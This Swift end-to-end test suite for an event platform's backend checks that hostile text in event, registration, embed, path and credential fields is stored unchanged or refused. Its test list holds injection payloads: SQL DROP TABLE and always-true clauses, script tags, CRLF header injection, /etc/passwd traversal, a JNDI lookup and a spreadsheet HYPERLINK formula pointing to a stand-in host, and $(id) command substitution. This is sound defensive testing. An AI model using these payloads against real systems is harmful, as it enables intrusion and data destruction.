import Basics
import Foundation
import JOSE
import Testing

extension EndToEnd {
    @Suite(
        "Text that is harmful elsewhere comes back unchanged, or is refused by the field's name, and does nothing"
    )
    struct HostileTextTests {
        struct Text: Sendable, CustomTestStringConvertible {
            let kind: String
            let text: String
            var testDescription: String { kind }
        }

        static let texts = [
            Text(kind: "SQL that ends a statement", text: "x'); DROP TABLE event; DROP TABLE registration; --"),
            Text(kind: "SQL that is always true", text: "' OR '1'='1"),
            Text(kind: "SQL wildcards", text: "%_%@example.com"),
            Text(kind: "HTML", text: "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>"),
            Text(kind: "CRLF and a field", text: "Ada\r\nX-Injected: yes\r\n\r\n<h1>body</h1>"),
            Text(kind: "LF and a field", text: "Ada\nX-Injected: yes"),
            Text(kind: "encoded CRLF", text: "Ada%0d%0aX-Injected:%20yes"),
            Text(kind: "path traversal", text: "../../../../etc/passwd"),
            Text(kind: "encoded path traversal", text: "..%2f..%2f..%2fetc%2fpasswd\\..\\"),
            Text(kind: "templates", text: "${jndi:ldap://evil.example/a}{{7*7}}#{7*7}%{7*7}$(id)`id`"),
            Text(kind: "format strings", text: "%s%n%x%d%p %@"),
            Text(kind: "NUL", text: "Ada\0Lovelace"),
            Text(kind: "other controls", text: "\u{1}\u{8}\u{b}\u{1b}[2J\u{7f}\u{85}"),
            Text(kind: "controls in an e-mail", text: "a\u{80}b@example.com"),
            Text(kind: "controls in a URL", text: "https://pictures.example/\u{9f}\u{80}"),
            Text(kind: "directions and zero width", text: "\u{202e}moc.elpmaxe\u{202c}\u{200b}\u{feff}\u{2066}"),
            Text(kind: "scripts and emoji", text: "Ада 愛 \u{1F469}\u{200D}\u{1F680} e\u{301} \u{FB01} \u{130}\u{131}"),
            Text(kind: "noncharacters", text: "\u{FFFE}\u{FFFF}\u{10FFFF}"),
            Text(kind: "a formula", text: "=HYPERLINK(\"https://evil.example\",\"a\")"),
            Text(kind: "JSON", text: "\",\"companyId\":\"globex\",\"x\":{\"a\":[1]}"),
            Text(kind: "long", text: String(repeating: "A", count: 100_000)),
            Text(kind: "long, of wide characters", text: String(repeating: "\u{1F680}", count: 20_000)),
        ]

        private static let site = Result {
            try Site {
                $0.control = "webhook_private_addresses = [\"127.0.0.0/8\"]"
                $0.log = "access = false"
            }
        }

        private let site: Site
        private let backend: Backend

        init() throws {
            site = try Self.site.get()
            backend = try Backend.signedIn(site)
        }

        /// Makes a call with `text` in one field.
        ///
        /// - Returns: the answer, or `nil` if it was refused as it should be.
        private func accepted(_ method: String, _ path: String, _ body: JSONValue, _ field: String) throws -> JSONValue?
        {
            let response = try backend.call(method, path, body)
            #expect(response["X-Injected"] == nil)
            guard response.status != 200 else { return try response.json() }
            try expectFault(response, 400, "invalid_request", naming: field, "\(method) \(path), \(field): \(response)")
            return nil
        }

        private func body(_ body: JSONValue, _ field: String, _ value: JSONValue) -> JSONValue {
            var body = body
            body[field] = value
            return body
        }

        @Test("In an event's fields", arguments: texts)
        func event(text: Text) throws {
            let value = JSONValue.string(text.text)
            let plain: [String: JSONValue] = [
                "name": value, "timezone": value, "type": value, "picture": value, "networkingHub": value,
                "startDate": value, "endDate": value, "secondJoin": value,
                "presenters": .array([value]), "organizers": .array(["fine@example.com", value]),
            ]
            // White space at the ends of a list's entries is not part of them.
            let listed = JSONValue.string(text.text.trimmingCharacters(in: .whitespacesAndNewlines))
            let lists: [String: JSONValue] = [
                "presenters": .array([listed]), "organizers": .array(["fine@example.com", listed]),
            ]
            let before = try backend.ask("GET", "/company/acme")["eventIds"]?.list?.count ?? 0
            var made = 0
            for (field, value) in plain {
                let new = body(backend.newEvent(), field, value)
                guard let event = try accepted("POST", "/event/create", new, field) else { continue }
                made += 1
                let uid = try #require(event["uid"]?.text)
                #expect(event[field] == lists[field] ?? value, "\(field)")
                #expect(try backend.ask("GET", "/event/\(uid)")[field] == lists[field] ?? value, "\(field)")
                let changed = try backend.ask("POST", "/event/\(uid)", ["name": "plain"])
                #expect(changed["name"] == "plain")
                if let event = try accepted("PATCH", "/event/\(uid)", .object([JSONMember(field, value)]), field) {
                    #expect(event[field] == lists[field] ?? value, "\(field)")
                }
            }
            let metadata: JSONValue = .object([JSONMember(text.text, [1, ["a": value]])])
            if let event = try accepted(
                "POST",
                "/event/create",
                body(backend.newEvent(), "metadata", metadata),
                "metadata"
            ) {
                made += 1
                #expect(try backend.ask("GET", "/event/\(event["uid"]?.text ?? "")")["metadata"] == metadata)
            }
            let elsewhere = try backend.call("POST", "/event/create", body(backend.newEvent(), "companyId", value))
            if elsewhere.status == 404 {
                // The text could be the name of another company.
                try expectFault(elsewhere, 404, "not_found")
            } else {
                try expectFault(elsewhere, 400, "invalid_request", naming: "companyId")
            }
            #expect(try backend.ask("GET", "/company/acme")["eventIds"]?.list?.count == before + made)
        }

        @Test("In a registration's fields, its list, its CSV and its token", arguments: texts)
        func registration(text: Text) throws {
            let event = try backend.createEvent()
            let path = "/event/\(event)/registrant"
            let value = JSONValue.string(text.text)
            var expected = 0
            let metadata: JSONValue = .object([JSONMember(text.text, value)])
            let fields: [(String, JSONValue)] = [("name", value), ("email", value), ("metadata", metadata)]
            for (number, (field, value)) in fields.enumerated() {
                let plain: JSONValue = ["name": "Ada", "email": .string("ada\(number)@example.com")]
                guard let answer = try accepted("POST", path, body(plain, field, value), field) else { continue }
                expected += 1
                #expect(answer[field] == value, "\(field)")
                let target = try Registered(answer).target
                #expect(target.utf8.allSatisfy { $0 > 0x20 && $0 < 0x7f })
                #expect(try Browser(site).open(target).status == 200)
                let seen = try #require(site.upstream.requests.last)
                #expect(seen["X-Injected"] == nil)
                if field == "name" { #expect(seen["X-Gateway-User-Name"]?.removingPercentEncoding == text.text) }
                var removed = answer
                removed = ["email": removed["email"] ?? nil]
                #expect(try backend.call("DELETE", path, removed).status == 204)
                let again = body(plain, field, value)
                #expect(try backend.call("POST", path, again).status == 200)
            }
            let list = try backend.ask("GET", "/event/\(event)/registrants").list
            #expect(list?.count == expected)
            let table = try backend.call("GET", "/event/\(event)/analytics", nil, ["Accept: text/csv"])
            #expect(table.status == 200)
            #expect(!table.text.contains("\n=") && !table.text.contains(",="), "no cell is a formula")
        }

        @Test("In an embed request's fields, and in what the upstream gets", arguments: texts)
        func embed(text: Text) throws {
            let event = try backend.createEvent()
            let value = JSONValue.string(text.text)
            let plain: JSONValue = ["userId": "u-1", "userName": "Ada"]
            for field in ["userId", "userName", "userDisplayName", "userEmail", "userAvatar"] {
                var body = body(plain, field, value)
                if field == "userDisplayName" { body["userName"] = nil }
                guard let url = try accepted("POST", "/event/\(event)/embedCode", body, field) else { continue }
                let target = Browser.path(url.text ?? "")
                #expect(target.hasPrefix("/event/\(event)?token="))
                #expect(target.utf8.allSatisfy { $0 > 0x20 && $0 < 0x7f })
                site.upstream.forget()
                #expect(try Browser(site).open(target).status == 200, "\(field)")
                let seen = try #require(site.upstream.requests.last)
                #expect(seen["X-Injected"] == nil, "\(field)")
                #expect(seen["X-Gateway-Role"] == "attendee" && seen.fields.values("X-Gateway-Role").count == 1)
                if field.hasSuffix("Name") {
                    #expect(seen["X-Gateway-User-Name"]?.removingPercentEncoding == text.text, "\(field)")
                }
            }
        }

        @Test(
            "The longest accepted value of each is accepted by the viewer's side too",
            arguments: ["a", "ü", "愛", "\u{1F680}"]
        )
        func longest(character: String) throws {
            let event = try backend.createEvent()
            func repeated(_ count: Int) -> String { String(repeating: character, count: count) }
            let width = character.utf8.count
            let bodies: [(field: String, value: String)] = [
                ("userId", repeated(256)), ("userName", repeated(256)),
                ("userEmail", repeated((254 - 12) / width) + "@example.com"),
                ("userAvatar", "https://a.example/" + repeated(1024 - 18)),
            ]
            for (field, value) in bodies {
                let plain: JSONValue = ["userId": "u-1", "userName": "Ada"]
                let embed = try accepted("POST", "/event/\(event)/embedCode", body(plain, field, .string(value)), field)
                // Nothing too large for the cookie.
                guard let embed else { continue }
                #expect(try Browser(site).open(Browser.path(embed.text ?? "")).status == 200, "\(field)")
            }
            let person: JSONValue = ["name": .string(repeated(256)), "email": .string(bodies[2].value)]
            if let answer = try accepted("POST", "/event/\(event)/registrant", person, "name") {
                #expect(try Browser(site).open(try Registered(answer).target).status == 200)
            }
        }

        @Test("In paths and queries", arguments: texts)
        func addresses(text: Text) throws {
            let event = try backend.createEvent("One", ["presenters": ["keep@example.com"]])
            let allowed = CharacterSet(
                charactersIn: "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~"
            )
            let encoded = text.text.addingPercentEncoding(withAllowedCharacters: allowed) ?? ""
            for path in [
                "/event/\(encoded)", "/event/\(encoded)/registrants", "/company/\(encoded)", "/networking/\(encoded)",
                "/event/\(event)/sessions/\(encoded)", "/\(encoded)", "/event/\(event)/\(encoded)",
            ] {
                let response = try backend.call("GET", path)
                #expect([400, 404, 405, 431].contains(response.status), "\(path.prefix(100)): \(response)")
                #expect(response["X-Injected"] == nil)
            }
            let removed = try backend.call("DELETE", "/event/\(event)/presenter/\(encoded)")
            #expect([200, 400, 404, 431].contains(removed.status), "\(removed)")
            #expect(try backend.ask("GET", "/event/\(event)")["presenters"] == ["keep@example.com"])
            for name in ["from", "to", "limit", "cursor"] {
                let response = try backend.call("GET", "/company/acme/events?\(name)=\(encoded)")
                #expect([400, 431].contains(response.status), "\(name): \(response)")
            }
        }

        @Test("In credentials and webhooks", arguments: texts)
        func credentials(text: Text) throws {
            let value = JSONValue.string(text.text)
            for field in ["client_id", "client_secret", "grant_type"] {
                // Refusing a body before it was read ends the connection.
                let stranger = Backend(port: site.port)
                let response = try stranger.call("POST", "/api/oauth/token", body(backend.credentials(), field, value))
                #expect([400, 401, 413].contains(response.status), "\(field): \(response)")
                #expect(response["X-Injected"] == nil)
            }
            let audience = try Backend(port: site.port).call(
                "POST",
                "/api/oauth/token",
                body(backend.credentials(), "audience", value)
            )
            #expect([200, 400, 413].contains(audience.status), "\(audience)")
            let hook: JSONValue = ["eventType": "event.created", "endpoint": "http://127.0.0.1:9/hook"]
            for field in ["eventType", "endpoint", "eventId"] {
                try expectFault(
                    try backend.call("POST", "/webhooks", body(hook, field, value)),
                    400,
                    "invalid_request",
                    naming: field
                )
            }
            #expect(try backend.ask("GET", "/webhooks") == [])
        }

        @Test("After all that the database is intact, and the gateway has not restarted")
        func whole() throws {
            #expect(site.gateway.isRunning)
            let check = try run(Gateway.program, ["check", site.gateway.directory["gateway.conf"]])
            #expect(check.status == 0, "\(check.errors)")
            #expect(!site.gateway.log.contains("X-Injected: yes\n"))
        }
    }
}
